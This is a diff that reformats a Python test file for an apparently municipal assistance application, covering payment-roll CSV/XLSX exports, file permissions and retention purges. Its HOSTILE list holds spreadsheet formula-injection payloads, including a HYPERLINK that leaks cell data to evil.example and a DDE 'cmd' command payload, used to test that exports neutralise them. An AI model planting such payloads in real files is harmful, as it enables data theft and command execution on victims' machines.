@@ -16,8 +16,18 @@ from test_verification_rules import NUM, register
 from server.exports import FORMULA_STARTS, safe_cell
 
 SERVER = Path(__file__).resolve().parents[1] / "server"
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+2", "＠SUM(A1)"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1+2",
+    "＠SUM(A1)",
+]
 
 
 def live_formula(value) -> bool:
@@ -59,14 +69,21 @@ def test_no_spreadsheet_is_written_anywhere_but_through_server_exports():
 
 
 def test_payment_roll_csv_and_xlsx_carry_no_live_formula_and_amounts_stay_numbers(client, demo):
-    heads = sql(demo, "SELECT DISTINCT h.head_person_id FROM households h JOIN enrolments e ON e.household_id = h.id "
-                      "WHERE e.region_code LIKE '331102%' AND e.status = 'active' ORDER BY 1")  # fmt: skip
+    heads = sql(
+        demo,
+        "SELECT DISTINCT h.head_person_id FROM households h JOIN enrolments e ON e.household_id = h.id "
+        "WHERE e.region_code LIKE '331102%' AND e.status = 'active' ORDER BY 1",
+    )
     assert heads
     for i, (person_id,) in enumerate(heads):
         sql(demo, "UPDATE persons SET name = :n WHERE id = :i", n=HOSTILE[i % len(HOSTILE)], i=person_id)
     staff_login(client, "district")
-    made = post_form(client, "/office/assistance/payments", {"month": "2026-12", "region_code": "331102"},
-                     follow_redirects=False)  # fmt: skip
+    made = post_form(
+        client,
+        "/office/assistance/payments",
+        {"month": "2026-12", "region_code": "331102"},
+        follow_redirects=False,
+    )
     roll = made.headers["location"].rsplit("/", 1)[1]
     text = client.get(f"/office/assistance/payments/{roll}/export/csv").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
@@ -252,16 +269,23 @@ def test_every_file_the_application_writes_is_owner_only(client, demo, settings)
         exif[0x8825] = {1: "N", 2: (28.0, 27.0, 18.0), 3: "E", 4: (119.0, 55.0, 30.0)}  # inside 天宁社区
         Image.new("RGB", (400, 300), (90, 120, 150)).save(photo, "JPEG", exif=exif)
         client.get("/report")
-        made = client.post("/report", data={"situation": "homeless", "_csrf_token": client.cookies.get("huimin_csrf")},
-                           files={"photo": ("p.jpg", photo.getvalue(), "image/jpeg")}, follow_redirects=False)  # fmt: skip
+        made = client.post(
+            "/report",
+            data={"situation": "homeless", "_csrf_token": client.cookies.get("huimin_csrf")},
+            files={"photo": ("p.jpg", photo.getvalue(), "image/jpeg")},
+            follow_redirects=False,
+        )
         assert made.status_code == 303
         vapid_private_pem(settings)
     finally:
         os.umask(old)
     seen = {p.relative_to(settings.var_dir).parts[0] for p in settings.var_dir.rglob("*") if p.is_file()}
     assert {"verification", "uploads"} <= seen
-    loose = {str(p.relative_to(settings.var_dir)): oct(p.stat().st_mode & 0o777) for p in settings.var_dir.rglob("*")
-             if p.stat().st_mode & 0o777 != (0o700 if p.is_dir() else 0o600)}  # fmt: skip
+    loose = {
+        str(p.relative_to(settings.var_dir)): oct(p.stat().st_mode & 0o777)
+        for p in settings.var_dir.rglob("*")
+        if p.stat().st_mode & 0o777 != (0o700 if p.is_dir() else 0o600)
+    }
     assert loose == {}
 
 
@@ -331,8 +355,12 @@ def test_department_files_are_deleted_after_the_retention_and_refused_uploads_at
     assert len(list(folder.iterdir())) == 4
     kept_longer = replace(settings, raw_import_retention_days=40)
     assert in_db(settings, lambda s: purge_files(s, kept_longer)) == 0
-    env = {"DATABASE_URL": settings.database_url, "HUIMIN_VAR_DIR": str(settings.var_dir),
-           "HUIMIN_SECRET_KEY": settings.secret_key, "HUIMIN_RAW_IMPORT_RETENTION_DAYS": "30"}  # fmt: skip
+    env = {
+        "DATABASE_URL": settings.database_url,
+        "HUIMIN_VAR_DIR": str(settings.var_dir),
+        "HUIMIN_SECRET_KEY": settings.secret_key,
+        "HUIMIN_RAW_IMPORT_RETENTION_DAYS": "30",
+    }
     result = CliRunner().invoke(main, ["worker", "--once"], env=env)
     assert result.exit_code == 0, result.output
     assert len(list(folder.iterdir())) == 2
